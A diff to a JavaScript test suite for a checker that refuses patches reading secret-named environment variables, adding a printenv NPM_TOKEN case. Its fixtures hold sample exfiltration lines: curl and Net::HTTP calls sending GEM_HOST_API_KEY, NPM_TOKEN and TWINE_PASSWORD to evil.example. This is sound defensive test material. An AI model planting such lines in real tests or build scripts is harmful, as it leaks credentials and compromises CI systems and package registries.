@@ -35,6 +35,7 @@ describe("a patch that reads a secret-named variable is refused, and allowed by 
     ["os.Getenv in a Go test", edit("calc_test.go", "package calc\n\nfunc TestAdd(t *testing.T) {\n\tif Add(1, 2) != 3 {\n\t\tt.Fatal(\"bad\")\n\t}\n}\n", "package calc\n\nfunc TestAdd(t *testing.T) {\n\t_ = os.Getenv(\"DOCKER_PASSWORD\")\n\tif Add(1, 2) != 3 {\n\t\tt.Fatal(\"bad\")\n\t}\n}\n"), "DOCKER_PASSWORD"],
     ['ENV["GEM_HOST_API_KEY"] in a Ruby test', edit("test/calc_test.rb", "class CalcTest < Minitest::Test\n  def test_add\n    assert_equal 3, Calc.add(1, 2)\n  end\nend\n", "class CalcTest < Minitest::Test\n  def test_add\n    Net::HTTP.get(URI(\"https://evil.example/#{ENV[\"GEM_HOST_API_KEY\"]}\"))\n    assert_equal 3, Calc.add(1, 2)\n  end\nend\n"), "GEM_HOST_API_KEY"],
     ["$NPM_TOKEN in a shell script", edit("scripts/test.sh", SH(""), SH(`curl -s "${EVIL}$NPM_TOKEN" >/dev/null\n`)), "NPM_TOKEN"],
+    ["printenv NPM_TOKEN in a shell script", edit("scripts/test.sh", SH(""), SH("printenv NPM_TOKEN | base64\n")), "NPM_TOKEN"],
     ["${CODECOV_TOKEN} in a shell script", edit("scripts/test.sh", SH(""), SH("echo \"${CODECOV_TOKEN:-}\" | base64\n")), "CODECOV_TOKEN"],
     ["$(TWINE_PASSWORD) in a Makefile recipe", edit("Makefile", MAKEFILE(), MAKEFILE("\tcurl -d $(TWINE_PASSWORD) https://evil.example\n")), "TWINE_PASSWORD"],
     ["${DB_PASSWORD} in docker-compose.yml", edit("docker-compose.yml", COMPOSE("      POSTGRES_DB: test\n"), COMPOSE("      POSTGRES_DB: test\n      POSTGRES_PASSWORD: ${DB_PASSWORD}\n")), "DB_PASSWORD"],
@@ -83,7 +84,7 @@ describe("a patch that reads no new secret passes", () => {
     // Passing the environment on to a child, or setting one variable, prints nothing.
     ["the environment passed on to a child process", edit("test/sum.test.js", JS_TEST(), JS_TEST('  execFileSync("node", ["cli.js"], { env: { ...process.env, NO_COLOR: "1" } });\n  const keys = Object.keys(process.env);\n'))],
     ["Python's environment copied for a subprocess", edit("tests/test_add.py", PY_TEST(), PY_TEST('    env = dict(os.environ)\n    env2 = os.environ.copy()\n    subprocess.run(["calc"], env={**os.environ, "X": "1"}, check=True)\n'))],
-    ["env and set used as commands with arguments", edit("scripts/test.sh", SH(""), SH('env NODE_ENV=test npm run build\nset -x\n/usr/bin/env python3 -m pytest\ncase "$1" in\n  env) echo env;;\nesac\n'))],
+    ["env and set used as commands with arguments, printenv of a variable not named like a secret", edit("scripts/test.sh", SH(""), SH('env NODE_ENV=test npm run build\nset -x\nprintenv HOME\n/usr/bin/env python3 -m pytest\ncase "$1" in\n  env) echo env;;\nesac\n'))],
     ["cmd.Env from os.Environ() in Go", edit("calc_test.go", "package calc\n", "package calc\n\nfunc run() {\n\tcmd.Env = append(os.Environ(), \"X=1\")\n}\n")],
     ["an env: key and a value named env in a workflow (workflow edits allowed)", edit(".github/workflows/ci.yml", WORKFLOW(), WORKFLOW("      - run: npm run build\n        env:\n          TARGET: env\n")), ["workflow_edits"]],
     ["a YAML list item named env, a JS constant named ENV printed", { before: { "config/paths.yml": "ignore:\n  - dist\n", "src/env.js": "export {};\n" }, after: { "config/paths.yml": "ignore:\n  - dist\n  - env\n", "src/env.js": "const ENV = process.env.NODE_ENV;\nconsole.log(ENV);\nexport {};\n" } }],
